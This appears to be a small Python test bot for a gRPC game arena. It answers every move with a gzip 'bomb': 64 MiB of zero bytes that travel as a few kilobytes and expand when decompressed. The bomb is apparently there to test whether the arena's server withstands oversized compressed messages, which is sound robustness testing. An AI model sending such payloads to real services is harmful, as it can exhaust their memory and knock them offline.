"""Answers with a message of 64 MiB that is a few kilobytes on its way."""

from collections.abc import Iterable

import grpc
from politely import PoliteBot

from arenabot.v1 import player_pb2 as player


class GzipBomb(PoliteBot):
    compression = grpc.Compression.Gzip

    def attack(
        self, request: player.PlayRequest, context: grpc.ServicerContext
    ) -> Iterable[player.PlayResponse | bytes]:
        return [bytes(64 << 20)]


if __name__ == "__main__":
    GzipBomb().serve()
